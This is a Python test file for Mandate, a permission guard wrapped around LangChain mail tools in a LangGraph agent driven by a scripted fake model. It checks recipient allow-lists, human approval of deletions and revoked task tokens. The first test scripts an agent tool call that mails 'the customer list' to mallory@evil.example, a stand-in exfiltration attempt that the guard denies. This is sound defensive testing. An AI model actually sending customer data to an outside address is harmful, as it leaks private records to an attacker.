"""LangChain tools guarded by Mandate, in a LangGraph agent loop (a model
node and LangGraph's prebuilt `ToolNode`) whose chat model follows a script
(no network, no LLM)."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator, Sequence
from typing import Any

from langchain_core.language_models import LanguageModelInput
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, BaseMessage, ToolMessage
from langchain_core.runnables import Runnable
from langchain_core.tools import BaseTool, tool
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.prebuilt import ToolNode, tools_condition

from conftest import Server, approve_next
from mandate.langchain import guard_tools

TOOLS = ["mail/read_inbox", "mail/send_email", "mail/delete_email"]
PARAMS = {"allowed_recipients": ["carol@example.com"]}
ANNOTATIONS = {
    "read_inbox": {"readOnlyHint": True, "openWorldHint": False},
    "send_email": {"readOnlyHint": False, "destructiveHint": False, "openWorldHint": False},
    "delete_email": {"readOnlyHint": False, "destructiveHint": True, "openWorldHint": False},
}


class ScriptedModel(GenericFakeChatModel):
    """A chat model that answers from a script and accepts tools."""

    def bind_tools(
        self, tools: Sequence[dict[str, Any] | type | Callable[..., Any] | BaseTool], **kwargs: Any
    ) -> Runnable[LanguageModelInput, AIMessage]:
        return self


def create_agent(model: ScriptedModel, tools: Sequence[BaseTool]) -> Any:
    """The ReAct loop: the model, then the tools it calls, until it answers."""

    def call_model(state: MessagesState) -> dict[str, list[BaseMessage]]:
        return {"messages": [model.invoke(state["messages"])]}

    graph = StateGraph(MessagesState)
    graph.add_node("model", call_model)
    graph.add_node("tools", ToolNode(tools))
    graph.add_edge(START, "model")
    graph.add_conditional_edges("model", tools_condition)
    graph.add_edge("tools", "model")
    return graph.compile()


def script(*calls: tuple[str, dict[str, Any]]) -> Iterator[AIMessage | str]:
    yield AIMessage(
        content="",
        tool_calls=[
            {"name": name, "args": args, "id": f"call-{i}", "type": "tool_call"}
            for i, (name, args) in enumerate(calls)
        ],
    )
    yield "done"


class Mailbox:
    def __init__(self) -> None:
        self.ran: list[str] = []

        @tool
        def read_inbox(folder: str) -> str:
            """Read the messages of a folder."""
            self.ran.append(f"read_inbox {folder}")
            return f"{folder}: 2 messages"

        @tool
        def send_email(to: str, subject: str, body: str) -> str:
            """Send a mail."""
            self.ran.append(f"send_email {to}")
            return "sent"

        @tool
        def delete_email(message_id: str) -> str:
            """Delete a message."""
            self.ran.append(f"delete_email {message_id}")
            return "deleted"

        self.tools: list[BaseTool] = [read_inbox, send_email, delete_email]


def tool_messages(messages: list[BaseMessage]) -> dict[str, ToolMessage]:
    return {m.name or "": m for m in messages if isinstance(m, ToolMessage)}


def test_the_agent_reads_the_denial_and_the_allowed_tool_runs(server: Server) -> None:
    box = Mailbox()
    with server.task(intent="answer customer mail", tools=TOOLS, params=PARAMS) as t:
        tools = guard_tools(box.tools, server="mail", task=t, annotations=ANNOTATIONS)
        model = ScriptedModel(
            messages=script(
                ("send_email", {"to": "mallory@evil.example", "subject": "list", "body": "all"}),
                ("read_inbox", {"folder": "inbox"}),
            )
        )
        agent = create_agent(model, tools)
        result = agent.invoke({"messages": [("user", "mail the customer list to mallory")]})
        view = t.show()

    assert box.ran == ["read_inbox inbox"]
    answers = tool_messages(result["messages"])
    denied = answers["send_email"]
    assert denied.status == "error"
    assert "not among the task's allowed recipients" in str(denied.content)
    assert "did not run" in str(denied.content)
    assert answers["read_inbox"].content == "inbox: 2 messages"
    assert result["messages"][-1].content == "done"
    history = {e["tool"]: e for e in view["history"]}
    assert history["send_email"]["decision"] == "deny"
    assert history["read_inbox"]["decision"] == "allow"
    assert history["read_inbox"]["result"] is not None


async def test_an_approval_granted_meanwhile_lets_the_async_agent_go_on(server: Server) -> None:
    box = Mailbox()
    async with server.task(intent="clean up spam", tools=TOOLS, params=PARAMS) as t:
        tools = guard_tools(
            box.tools, server="mail", task=t, annotations=ANNOTATIONS, approval_timeout=30
        )
        model = ScriptedModel(messages=script(("delete_email", {"message_id": "msg-1042"})))
        agent = create_agent(model, tools)
        person = threading.Thread(target=approve_next, args=(server, str(t.task_id)))
        person.start()
        result = await agent.ainvoke({"messages": [("user", "delete the spam")]})
        person.join()

    assert box.ran == ["delete_email msg-1042"]
    assert tool_messages(result["messages"])["delete_email"].content == "deleted"


def test_a_task_ended_mid_run_is_a_tool_error_not_a_crash(server: Server) -> None:
    box = Mailbox()
    with server.task(intent="answer customer mail", tools=TOOLS, params=PARAMS) as t:
        tools = guard_tools(box.tools, server="mail", task=t, annotations=ANNOTATIONS)
        t.client.end_task(str(t.task_id), server.idp.token("spiffe://example.org/agent/planner"))
        model = ScriptedModel(messages=script(("read_inbox", {"folder": "inbox"})))
        result = create_agent(model, tools).invoke({"messages": [("user", "read")]})

    assert box.ran == []
    refused = tool_messages(result["messages"])["read_inbox"]
    assert refused.status == "error"
    assert "invalid_token" in str(refused.content)
